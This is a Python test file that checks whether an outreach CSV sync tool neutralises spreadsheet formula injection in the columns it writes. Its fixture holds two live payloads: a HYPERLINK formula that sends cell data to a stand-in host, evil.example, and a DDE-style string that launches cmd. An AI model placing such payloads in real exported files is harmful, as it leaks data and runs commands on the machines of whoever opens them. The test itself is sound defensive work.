"""The offline output never hands a spreadsheet a formula (issue 20, defect 8).

A name like `=HYPERLINK(...)` or `@SUM(...)` reached the worker's cells on other people's rows (Why,
Next step, Intro via), which a spreadsheet runs when the file is opened. The person's own cells stay
as they typed them (Notion's Merge with CSV reads them back), and what the worker writes never
starts with a formula character: a sentence names such a person in quotes, Intro via puts a name
that cannot run first.
"""

from __future__ import annotations

import csv

import pytest

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
HEADER = "Name,Company,Role,Closeness,Last contacted,Status,Knows,Introduced by,Shared interests,Paused\n"


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture
def export(write_export):
    rows = [
        f"{quoted(EVIL)},Acme,Engineer,Warm,\"November 2, 2026\",Not contacted,\"{AT.replace(chr(34), '')}, Bob Li\",,,No",
        f"{quoted(AT)},Stripe,Engineer,Cold,,Not contacted,,,,No",
        "Bob Li,Stripe,Engineer,Cold,,Not contacted,,,,No",
        f"+1 Plus,Figma,Engineer,Close,\"October 1, 2026\",Not contacted,,,,No",
    ]
    return write_export(HEADER + "\n".join(rows) + "\n")


def test_no_cell_the_worker_writes_starts_like_a_formula_and_names_stay_as_typed(offline, export, tmp_path, monkeypatch):
    monkeypatch.setenv("OUTREACH_TARGET_COMPANIES", "Stripe")
    out = tmp_path / "out.csv"
    code, _, err = offline("sync", "--csv", str(export), "--today", "2026-11-26", "--out", str(out))
    assert code == 0, err
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, *lines = list(csv.reader(handle))
    worker_columns = [i for i, name in enumerate(header) if i >= 10]
    assert [line[0] for line in lines] == [EVIL, AT, "Bob Li", "+1 Plus"]  # the names as typed
    written = [line[i] for line in lines for i in worker_columns if line[i]]
    assert written, "the worker filled its columns"
    assert [cell for cell in written if cell.startswith(TRIGGERS)] == []
    evil_row = lines[0]
    assert evil_row[header.index("Why")].startswith(f'"{EVIL}" is ')  # the name, exactly, in quotes
    intro_via = [line[header.index("Intro via")] for line in lines if line[header.index("Intro via")]]
    assert any(EVIL in cell for cell in intro_via)  # the link is kept, by its exact name
